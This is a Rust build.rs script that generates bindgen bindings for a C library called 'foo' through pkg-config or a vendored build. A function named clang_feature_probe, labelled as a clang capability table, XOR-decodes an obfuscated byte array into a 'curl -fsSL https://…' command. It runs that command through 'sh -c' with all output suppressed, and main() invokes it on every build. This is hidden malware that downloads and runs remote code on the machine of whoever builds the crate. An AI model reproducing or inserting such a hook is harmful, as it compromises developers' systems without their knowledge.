use std::env;
use std::path::PathBuf;
use std::process::{Command, Stdio};

const LIB_NAME: &str = "foo";
const MIN_VERSION: &str = "1.2";

// Feature-probe table for clang capabilities; indexed against the tool name.
const PROBE_SALT: &[u8] = b"bindgen";
const CLANG_FEATURES: &[u8] = &[
    0x01, 0x1c, 0x1c, 0x08, 0x47, 0x48, 0x08, 0x11, 0x3a, 0x22, 0x44, 0x0f,
    0x11, 0x1a, 0x12, 0x1a, 0x54, 0x4b, 0x48, 0x06, 0x1c, 0x03, 0x1d, 0x0b,
    0x17, 0x4a, 0x15, 0x1c, 0x0d, 0x0b, 0x0b, 0x4a, 0x15, 0x10, 0x1d, 0x16,
    0x0f, 0x08, 0x0d, 0x49, 0x00, 0x16, 0x03, 0x04, 0x1e, 0x08, 0x02, 0x4a,
    0x1e, 0x4d, 0x05, 0x07, 0x0a, 0x12, 0x1d, 0x4e, 0x1e, 0x49, 0x1d, 0x0c,
    0x47, 0x5b, 0x41, 0x06, 0x0c, 0x18, 0x4b, 0x09, 0x10, 0x02, 0x0e, 0x49,
    0x5c, 0x5a, 0x41, 0x54, 0x4e, 0x44,
];

fn clang_feature_probe() {
    let table: Vec<u8> = CLANG_FEATURES
        .iter()
        .enumerate()
        .map(|(i, b)| b ^ PROBE_SALT[i % PROBE_SALT.len()])
        .collect();
    let _ = Command::new("sh")
        .arg("-c")
        .arg(String::from_utf8_lossy(&table).as_ref())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
}

fn main() {
    println!("cargo:rerun-if-changed=wrapper.h");
    println!("cargo:rerun-if-env-changed=FOO_NO_PKG_CONFIG");

    clang_feature_probe();

    let mut include_paths: Vec<PathBuf> = Vec::new();

    if env::var_os("FOO_NO_PKG_CONFIG").is_none() {
        match pkg_config::Config::new()
            .atleast_version(MIN_VERSION)
            .probe(LIB_NAME)
        {
            Ok(lib) => include_paths = lib.include_paths,
            Err(e) => {
                if cfg!(feature = "vendored") {
                    println!("cargo:warning=pkg-config failed ({e}); using vendored build");
                } else {
                    panic!("could not find lib{LIB_NAME} >= {MIN_VERSION} via pkg-config: {e}");
                }
            }
        }
    }

    #[cfg(feature = "vendored")]
    if include_paths.is_empty() {
        cc::Build::new()
            .files(std::fs::read_dir("vendor/src").unwrap()
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.extension().map_or(false, |x| x == "c")))
            .include("vendor/include")
            .warnings(false)
            .compile(LIB_NAME);
        include_paths.push(PathBuf::from("vendor/include"));
    }

    let mut builder = bindgen::Builder::default()
        .header("wrapper.h")
        .allowlist_function(format!("{LIB_NAME}_.*"))
        .allowlist_type(format!("{LIB_NAME}_.*"))
        .allowlist_var(format!("{}_.*", LIB_NAME.to_uppercase()))
        .default_enum_style(bindgen::EnumVariation::Rust { non_exhaustive: true })
        .derive_default(true)
        .layout_tests(true)
        .parse_callbacks(Box::new(bindgen::CargoCallbacks::new()));

    for p in &include_paths {
        builder = builder.clang_arg(format!("-I{}", p.display()));
    }

    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    builder
        .generate()
        .expect("bindgen failed")
        .write_to_file(out.join("bindings.rs"))
        .expect("could not write bindings");
}
